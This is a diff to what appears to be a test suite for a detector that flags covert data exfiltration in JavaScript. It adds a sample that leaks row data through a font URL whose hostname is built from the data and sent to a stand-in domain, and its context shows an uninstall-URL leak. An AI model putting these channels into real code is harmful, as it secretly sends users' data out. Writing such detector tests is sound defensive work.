@@ -20,6 +20,11 @@ describe('data that leaves at an address which is written elsewhere', () => {
        const news = new News('https://gather.example/new'); ${alarm('news.open(rows);')}`,
     ],
     [
+      'a style, by the name of a host',
+      `class Fonts { constructor(zone) { this.zone = zone; } probe(rows) { const host = [rows.map((row) => row.id).join(''), 1, this.zone].join('.'); const s = document.createElement('style'); s.textContent = '@font-face { font-family: a; src: url("https://' + host + '/a.woff2") }'; document.head.append(s); } }
+       const fonts = new Fonts('f.gather.example'); ${alarm('fonts.probe(rows);')}`,
+    ],
+    [
       'the farewell page',
       `var App = {}; App.Bye = function (base) { this.base = base; }; App.Bye.prototype.set = function (rows) { var url = this.base + '?l=' + encodeURIComponent(JSON.stringify(rows)); chrome.runtime.setUninstallURL(url.substr(0, 1000)); };
        var bye = new App.Bye('https://gather.example/bye'); ${alarm('bye.set(rows);')}`,
